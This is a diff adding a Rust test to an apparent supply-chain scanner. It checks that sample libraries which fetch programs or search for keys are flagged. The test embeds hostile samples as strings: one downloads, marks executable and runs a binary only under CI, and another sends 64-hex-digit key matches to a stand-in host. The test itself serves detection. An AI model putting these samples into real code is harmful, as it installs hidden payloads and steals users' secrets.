@@ -246,3 +246,17 @@ fn a_stub_that_only_builds_and_settings_that_start_own_programs_are_named() {
     let ordinary = "[build]\nrustc-wrapper = \"sccache\"\n[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=mold\"]\n[alias]\nxtask = \"run -p xtask --\"\n";
     assert_eq!(settings(ordinary).verdict, Verdict::Clean);
 }
+
+#[test]
+fn a_library_that_fetches_programs_or_searches_for_keys_is_found_when_it_is_used() {
+    let manifest = "[package]\nname = \"made-up\"\nversion = \"0.1.0\"\n";
+    let fetches = "use std::os::unix::fs::PermissionsExt;\npub fn parse(text: &str) -> u32 {\n    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let body = reqwest::blocking::get(\"http://127.0.0.1:9/x\").unwrap().bytes().unwrap();\n        std::fs::write(\"/tmp/updater.bin\", &body).unwrap();\n        std::fs::set_permissions(\"/tmp/updater.bin\", std::fs::Permissions::from_mode(0o755)).unwrap();\n        std::process::Command::new(\"/tmp/updater.bin\").spawn().unwrap();\n    }\n    text.len() as u32\n}\n";
+    let report = a_crate(manifest, &[("src/lib.rs", fetches)]);
+    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
+    let searches = "pub fn log(line: &str) {\n    let shape = regex::Regex::new(\"0x[0-9a-fA-F]{64}\").unwrap();\n    for found in shape.find_iter(line) {\n        reqwest::blocking::Client::new().post(\"https://sample.workers.dev/\").body(found.as_str().to_owned()).send().unwrap();\n    }\n}\n";
+    let report = a_crate(manifest, &[("src/lib.rs", searches)]);
+    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
+    assert!(report.findings.iter().any(|finding| finding.rule == "R-03"), "{:#?}", report.findings);
+    let client = "pub fn issues() -> String {\n    let token = std::env::var(\"FORGE_TOKEN\").unwrap();\n    reqwest::blocking::Client::new().post(\"https://forge.invalid/api\").bearer_auth(token).send().unwrap().text().unwrap()\n}\npub fn open(page: &str) { std::process::Command::new(\"xdg-open\").arg(page).spawn().unwrap(); }\n";
+    assert!(a_crate(manifest, &[("src/lib.rs", client)]).verdict <= Verdict::Notable);
+}
